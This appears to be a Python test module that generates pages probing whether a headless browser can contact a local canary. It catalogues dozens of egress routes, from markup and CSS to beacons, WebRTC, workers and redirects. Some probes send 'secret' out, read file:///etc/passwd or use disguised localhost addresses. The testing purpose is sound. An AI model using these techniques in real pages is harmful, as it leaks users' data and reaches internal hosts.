"""Pages that try to get out of the browser: each attempt asks ``AWAY/<name>`` at a host that is not the page's.

``AWAY`` is ``http://host:port`` of a canary, ``HOST`` its host and port. Attempts stand alone: where one is not
possible in this browser, the others still run. All of a batch are in one page.
"""

from typing import Final

# As markup. A name is the last part of its address.
MARKUP: Final = """
<img src='AWAY/img'> <img srcset='AWAY/srcset 1x'> <picture><source srcset='AWAY/picture'><img></picture>
<img src='AWAY/attribution' attributionsrc='AWAY/attributionsrc'> <img loading=lazy src='AWAY/lazy'>
<img crossorigin src='AWAY/img-cors'> <img src='//HOST/scheme-relative'> <input type=image src='AWAY/input'>
<table background='AWAY/table'><tr><td background='AWAY/cell'>x</table> <body background='AWAY/body'>
<svg><image href='AWAY/svg-image'/><use href='AWAY/svg-use#a'/><script href='AWAY/svg-script'></script>
  <filter id=f><feImage href='AWAY/svg-fe-image'/></filter><rect width=9 height=9 filter='url(#f)'/>
  <a xlink:href='AWAY/svg-a'><text>x</text></a></svg>
<math href='AWAY/math'><mi>x</mi></math>
<video src='AWAY/video' poster='AWAY/poster' autoplay muted></video> <audio src='AWAY/audio' preload=auto></audio>
<video autoplay muted crossorigin><source src='AWAY/source'><track default src='AWAY/track'></video>
<object data='AWAY/object'></object> <embed src='AWAY/embed'> <applet code='AWAY/applet'></applet>
<iframe src='AWAY/iframe'></iframe> <iframe credentialless src='AWAY/credentialless'></iframe>
<iframe srcdoc="<img src='AWAY/srcdoc'>"></iframe> <iframe src="data:text/html,<img src='AWAY/data-frame'>"></iframe>
<iframe src="javascript:'<img src=AWAY/javascript-frame>'"></iframe> <iframe sandbox='allow-scripts' srcdoc="<script>
  fetch('AWAY/sandboxed', { mode: 'no-cors' })</script>"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0;url=AWAY/refresh'>"></iframe>
<iframe srcdoc="<base href='AWAY/'><img src='base'>"></iframe>
<iframe srcdoc="<form action='AWAY/form'></form><script>document.forms[0].submit()</script>"></iframe>
<iframe srcdoc="<form action='AWAY/form-post' method=post><input name=a value=b></form><script>
  document.forms[0].submit()</script>"></iframe>
<iframe srcdoc="<form target=_blank><button formaction='AWAY/formaction'></form><script>document.querySelector('button')
  .click()</script>"></iframe>
<iframe srcdoc="<script>location = 'AWAY/frame-location'</script>"></iframe>
<iframe srcdoc="<script>open('AWAY/popup')</script>"></iframe>
<iframe srcdoc="<meta http-equiv=Content-Security-Policy
  content=&quot;img-src 'none'; report-uri AWAY/csp-meta&quot;><img src=x>"></iframe>
<iframe src='/framed-headers'></iframe> <iframe src='/redirect/redirected-frame'></iframe>
<iframe src='/refreshing'></iframe> <iframe src='/styled.xml'></iframe> <iframe src='/entity.svg'></iframe>
<portal src='AWAY/portal'></portal> <fencedframe src='AWAY/fencedframe'></fencedframe>
<a ping='AWAY/ping-only' href='AWAY/anchor'>x</a>
<img src='/redirect/redirected-img'> <script src='/redirect/redirected-script'></script>
<link rel=stylesheet href='/redirect/redirected-style'>
<script src='AWAY/script'></script> <script type=module src='AWAY/module'></script>
<script type=module>import 'AWAY/static-import'</script>
<script type=importmap>{"imports": {"mapped": "AWAY/importmap"}}</script><script type=module>import 'mapped'</script>
<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["AWAY/speculation-prefetch"]}],
  "prerender": [{"source": "list", "urls": ["AWAY/speculation-prerender"]}]}</script>
"""

LINKS: Final = "\n".join(
    f"<link rel='{rel}' href='AWAY/link-{name}' {more}>"
    for name, rel, more in (
        ("stylesheet", "stylesheet", ""),
        ("alternate", "alternate stylesheet", "title=x"),
        ("import", "import", ""),
        ("icon", "icon", ""),
        ("touch", "apple-touch-icon", ""),
        ("manifest", "manifest", ""),
        ("prefetch", "prefetch", ""),
        ("prerender", "prerender", ""),
        ("next", "next", ""),
        ("dns", "dns-prefetch", ""),
        ("preconnect", "preconnect", "crossorigin"),
        ("modulepreload", "modulepreload", ""),
        ("preload-image", "preload", "as=image"),
        ("preload-font", "preload", "as=font crossorigin"),
        ("preload-fetch", "preload", "as=fetch crossorigin"),
        ("preload-style", "preload", "as=style"),
        ("dictionary", "compression-dictionary", ""),
        ("pingback", "pingback", ""),
        ("search", "search", "type=application/opensearchdescription+xml"),
    )
)

STYLE: Final = """<style>
@import 'AWAY/import'; @import url('AWAY/import-layer') layer(x) supports(display: grid);
@font-face { font-family: away; src: url(AWAY/font) }
@font-face { font-family: range; src: url(AWAY/font-range); unicode-range: U+41 }
@page { background: url(AWAY/page-box); @top-left { content: url(AWAY/margin-box) } }
@media print { p { background: url(AWAY/print) } }
#b1 { background: url(AWAY/background) } #b2 { background-image: image-set(url(AWAY/image-set) 1x) }
#b3 { border-image: url(AWAY/border) 9 } #b4 { mask-image: url(AWAY/mask) } #b5 { filter: url(AWAY/filter#f) }
#b6 { clip-path: url(AWAY/clip#c) } #b7 { cursor: url(AWAY/cursor), auto }
#b8 { shape-outside: url(AWAY/shape); float: left }
#b9 { list-style: url(AWAY/list); display: list-item } #b10::before { content: url(AWAY/content) }
#b11 { background: -webkit-cross-fade(url(AWAY/cross-fade), url(x), 50%) } #b12 { offset-path: url(AWAY/offset#p) }
#b13 { --u: url(AWAY/variable); background: var(--u) } #b14 { -webkit-box-reflect: below 0 url(AWAY/reflect) }
</style>
<p style='font-family: away'>x</p><p style='font-family: range'>A</p>
""" + "".join(f"<div id=b{number}>x</div>" for number in range(1, 15))

# As script: each is the body of an async function.
SCRIPTS: Final[dict[str, str]] = {
    "fetch": "await fetch('AWAY/fetch')",
    "fetch-no-cors": "await fetch('AWAY/fetch-no-cors', { mode: 'no-cors' })",
    "fetch-post": "await fetch('AWAY/fetch-post', { method: 'POST', mode: 'no-cors', body: 'secret' })",
    "preflight": "await fetch('AWAY/preflight', { method: 'PUT', headers: { 'X-Secret': 'secret' } })",
    "keepalive": "fetch('AWAY/keepalive', { keepalive: true, mode: 'no-cors' })",
    "later": "fetchLater('AWAY/later', { activateAfter: 0 })",
    "redirected-fetch": "await fetch('/redirect/redirected-fetch', { mode: 'no-cors' })",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'AWAY/xhr'); x.send()",
    "xhr-sync": "const x = new XMLHttpRequest(); x.open('POST', 'AWAY/xhr-sync', false); x.send('secret')",
    "beacon": "navigator.sendBeacon('AWAY/beacon', 'secret')",
    "event-source": "new EventSource('AWAY/event-source')",
    "ws": "new WebSocket('ws://HOST/ws')",
    "wss": "new WebSocket('wss://HOST/wss')",
    "ws-page-origin": "new WebSocket('ws://' + location.host + '/redirect/ws-page-origin')",
    "ws-stream": "await new WebSocketStream('ws://HOST/ws-stream').opened",
    "web-transport": "await new WebTransport('https://HOST/web-transport').ready",
    "web-transport-hash": "await new WebTransport('https://HOST/t', { serverCertificateHashes:"
    " [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }).ready",
    "stun": "PEER(['stun:HOST'])",
    "stuns": "PEER(['stuns:HOST'])",
    "turn-udp": "PEER(['turn:HOST?transport=udp'])",
    "turn-tcp": "PEER(['turn:HOST?transport=tcp'])",
    "turns": "PEER(['turns:HOST?transport=tcp'])",
    "ice": "const p = PEER([]); await p.setRemoteDescription({ type: 'offer', sdp: SDP }); "
    "await p.setLocalDescription(await p.createAnswer())",
    "image": "new Image().src = 'AWAY/image'",
    "audio-object": "new Audio('AWAY/audio-object').play()",
    "font-face": "await new FontFace('y', 'url(AWAY/font-face)').load()",
    "script-element": "const s = document.createElement('script'); s.src = 'AWAY/script-element';"
    " document.head.append(s)",
    "dynamic-import": "await import('AWAY/dynamic-import')",
    "import-data": "await import('data:text/javascript,import \"AWAY/import-data\"')",
    "json-module": "await import('AWAY/json-module', { with: { type: 'json' } })",
    "worker-blob": "WORKER(\"fetch('AWAY/worker-blob', { mode: 'no-cors' })\")",
    "worker-scripts": "WORKER(\"importScripts('AWAY/worker-scripts')\")",
    "worker-xhr": "WORKER(\"const x = new XMLHttpRequest(); x.open('GET', 'AWAY/worker-xhr', false); x.send()\")",
    "worker-ws": "WORKER(\"new WebSocket('ws://HOST/worker-ws')\")",
    "worker-nested": "WORKER(\"new Worker(URL.createObjectURL(new Blob(['importScripts(`AWAY/worker-nested`)'])))\")",
    "module-worker": "new Worker(BLOB(\"import 'AWAY/module-worker'\"), { type: 'module' })",
    "remote-worker": "new Worker('AWAY/remote-worker')",
    "shared-worker": "new SharedWorker(BLOB(\"fetch('AWAY/shared-worker', { mode: 'no-cors' })\"))",
    "service-worker": "await navigator.serviceWorker.register('/worker.js')",
    "paint-worklet": "await CSS.paintWorklet.addModule('AWAY/paint-worklet')",
    "audio-worklet": "await new AudioContext().audioWorklet.addModule('AWAY/audio-worklet')",
    "wasm": "await WebAssembly.instantiateStreaming(fetch('AWAY/wasm'))",
    "cache-add": "await (await caches.open('x')).add('AWAY/cache-add')",
    "css-object": "new CSSStyleSheet().replace(\"p { background: url('AWAY/css-object') }\").then((s) => {"
    " document.adoptedStyleSheets = [s] })",
    "written": "document.body.insertAdjacentHTML('beforeend', \"<img src='AWAY/written'>\")",
    "shadow": "const d = document.body.appendChild(document.createElement('div'));"
    " d.attachShadow({ mode: 'closed' }).innerHTML = \"<img src='AWAY/shadow'>\"",
    "blob-frame": "FRAME(BLOB(\"<script>fetch('AWAY/blob-frame', { mode: 'no-cors' })</script>\", 'text/html'))",
    "blob-svg": "FRAME(BLOB(\"<svg xmlns='http://www.w3.org/2000/svg'><image href='AWAY/blob-svg'/></svg>\","
    " 'image/svg+xml'))",
    "xslt": "const d = new DOMParser().parseFromString(`<x:stylesheet version='1.0'"
    " xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:template match='/'><x:copy-of"
    " select=\"document('AWAY/xslt')\"/></x:template></x:stylesheet>`, 'text/xml'); const p = new XSLTProcessor();"
    " p.importStylesheet(d); p.transformToDocument(d)",
    "frame-src": "FRAME('AWAY/frame-src')",
    "view-source": "FRAME('view-source:AWAY/view-source')",
    "file-frame": "FRAME('file:///etc/passwd')",
    "file-fetch": "document.body.append(await (await fetch('file:///etc/passwd')).text())",
    "file-image": "new Image().src = 'file:///etc/passwd'",
    "file-script": "const s = document.createElement('script'); s.src = 'file:///etc/passwd'; document.head.append(s)",
    "filesystem": "FRAME('filesystem:http://HOST/temporary/x')",
    "chrome": "FRAME('chrome://version')",
    "devtools": "FRAME('devtools://devtools/bundled/inspector.html?ws=HOST/devtools')",
    "ftp": "FRAME('ftp://HOST/ftp')",
    "mailto": "FRAME('mailto:x@HOST')",
    "intent": "FRAME('intent://HOST/#Intent;scheme=http;end')",
    "user": "new Image().src = 'http://user:password@HOST/user'",
    "open": "open('AWAY/open')",
    "open-noopener": "open('AWAY/open-noopener', '_blank', 'noopener')",
    "clicks": "for (const id of ['ping', 'blank', 'download']) { document.getElementById(id).click() }",
    "middle-click": "document.getElementById('away').dispatchEvent("
    "new MouseEvent('click', { ctrlKey: true, bubbles: true }))",
    "printing": "addEventListener('beforeprint', () => { new Image().src = 'AWAY/printing'; fetch('AWAY/printing2') })",
    "leaving": "for (const e of ['pagehide', 'unload', 'visibilitychange']) addEventListener(e, () => {"
    " navigator.sendBeacon('AWAY/leaving', 'secret') })",
    "csp-report": "const m = document.createElement('iframe'); m.csp = \"img-src 'none'; report-uri AWAY/csp-report\";"
    " m.src = '/framed-headers'; document.body.append(m)",
    "preconnect-script": "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch']) { const l ="
    " document.createElement('link'); l.rel = rel; l.href = 'AWAY/preconnect-script'; document.head.append(l) }",
    "speculation-script": "const s = document.createElement('script'); s.type = 'speculationrules';"
    " s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['AWAY/speculation-script'] }] });"
    " document.head.append(s)",
}
# Services of the browser that the headless one lacks: some end the page that asks for them.
SERVICES: Final[dict[str, str]] = {
    "raw-tcp": "await new TCPSocket('127.0.0.1', PORT).opened",
    "raw-udp": "await new UDPSocket({ remoteAddress: '127.0.0.1', remotePort: PORT }).opened",
    "shared-storage": "await sharedStorage.worklet.addModule('AWAY/shared-storage')",
    "payment": "await new PaymentRequest([{ supportedMethods: 'AWAY/payment' }],"
    " { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()",
    "fedcm": "await navigator.credentials.get({ identity: { providers: ["
    "{ configURL: 'AWAY/fedcm', clientId: 'x' }] } })",
    "presentation": "await new PresentationRequest('AWAY/presentation').start()",
    "handler": "navigator.registerProtocolHandler('web+x', location.origin + '/?%s'); FRAME('web+x:AWAY/handler')",
    "auction": "await navigator.joinAdInterestGroup("
    "{ owner: 'https://HOST', name: 'x', biddingLogicURL: 'https://HOST/x' }, 9)",
    "fenced": "const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig('AWAY/fenced');"
    " document.body.append(f)",
    "notification": "new Notification('x', { icon: 'AWAY/notification' })",
    "media-session": "navigator.mediaSession.metadata = new MediaMetadata("
    "{ artwork: [{ src: 'AWAY/media-session' }] })",
    "speech": "speechSynthesis.speak(new SpeechSynthesisUtterance('x')); new webkitSpeechRecognition().start()",
    "location-service": "navigator.geolocation.getCurrentPosition(() => 0)",
}
# The canary's own host, as others write it.
DISGUISES: Final[dict[str, str]] = {
    f"disguise-{number}": f"new Image().src = 'http://{host}:PORT/disguise-{number}'"
    for number, host in enumerate(
        (
            *("localhost", "LOCALHOST.", "lms.localhost", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"),
            *("2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.1", "127.0.1", "127.0.0.1.", "017700000001"),
            *("１２７.0.0.1", "①②⑦.0.0.1", "127。0。0。1", "%31%32%37.0.0.1", "0.0.0.0", "0", "[::]", "127.0.0.2"),
            *("127.0.0.1%2e", "lo\\tcalhost"),
        )
    )
}
# Where a page would go: each is a page of its own.
AWAY_WITH_IT: Final[dict[str, str]] = {
    "location": "<script>location = 'AWAY/location'</script>",
    "replace": "<script>setTimeout(() => location.replace('AWAY/replace'), 30)</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=AWAY/top-refresh'>",
    "form": "<form action='AWAY/top-form' method=post></form><script>document.forms[0].submit()</script>",
    "framed": "<iframe srcdoc=\"<script>top.location = 'AWAY/framed-top'</script>\"></iframe>",
    "click": "<a href='AWAY/click'>x</a><script>document.querySelector('a').click()</script>",
    "base": "<base href='AWAY/'><img src='based'><script src='based.js'></script><a href=x>x</a>",
    "javascript": "<script>location = 'javascript:location=`AWAY/javascript`'</script>",
    "navigation": "<script>navigation.navigate('AWAY/navigation')</script>",
    "frameset": "<html><frameset><frame src='AWAY/frameset'></frameset></html>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src 'self'; report-uri AWAY/policy\">"
    "<img src=AWAY/x>",
}

HELPERS: Final = """
const BLOB = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
const WORKER = (text) => new Worker(BLOB(text));
const FRAME = (url) => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); return f; };
const Peer = window.RTCPeerConnection || FRAME('about:blank').contentWindow.RTCPeerConnection;
const PEER = (urls) => {
  const iceServers = urls.length ? [{ urls, username: 'u', credential: 'c' }] : [];
  const peer = new Peer({ iceServers, iceCandidatePoolSize: 2 });
  if (urls.length) {
    peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }
  return peer;
};
const SDP = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
  'm=application PORT UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 127.0.0.1', 'a=mid:0', 'a=sctp-port:5000',
  'a=ice-ufrag:abcd', 'a=ice-pwd:abcdefghijklmnopqrstuvwx', 'a=setup:actpass', 'a=fingerprint:sha-256 ' +
  Array(32).fill('AB').join(':'), 'a=candidate:1 1 udp 2130706431 127.0.0.1 PORT typ host',
  'a=candidate:2 1 tcp 1518280447 127.0.0.1 PORT typ host tcptype passive', ''].join('\\r\\n');
"""


def script(attempts: dict[str, str]) -> str:
    """Return a script that makes all ``attempts``, none of which stops another."""
    made = "\n".join(f"(async () => {{ {body} }})().catch(() => 0);" for body in attempts.values())
    inside = made.replace("</script>", "<\\/script>")
    return f"<script>{HELPERS}\n{inside}</script>"


def batches() -> dict[str, str]:
    """Return the pages of the short run."""
    return {
        "markup": f"<p>the attempt itself</p>{MARKUP}",
        "links and styles": f"<p>the attempt itself</p>{LINKS}{STYLE}",
        "scripts": f"<p>the attempt itself</p><a id=ping ping='AWAY/ping' href=#x>x</a><a id=blank target=_blank "
        f"href='AWAY/blank'>x</a><a id=download download href='AWAY/download'>x</a><a id=away href='AWAY/away'>x</a>"
        f"{script(SCRIPTS)}",
        "services": f"<p>the attempt itself</p>{script(SERVICES)}",
        "disguises": f"<p>the attempt itself</p>{script(DISGUISES)}",
        **{f"away: {name}": f"<p>the attempt itself</p>{html}" for name, html in AWAY_WITH_IT.items()},
    }


def aimed(html: str, port: int) -> str:
    """Return ``html`` with the canary's address in it."""
    host = f"127.0.0.1:{port}"
    return html.replace("AWAY", f"http://{host}").replace("HOST", host).replace("PORT", str(port))


COUNT: Final = (
    MARKUP.count("AWAY/")
    + LINKS.count("AWAY/")
    + STYLE.count("AWAY/")
    + len(SCRIPTS)
    + len(SERVICES)
    + len(DISGUISES)
    + len(AWAY_WITH_IT)
)
"""Attempts in all."""
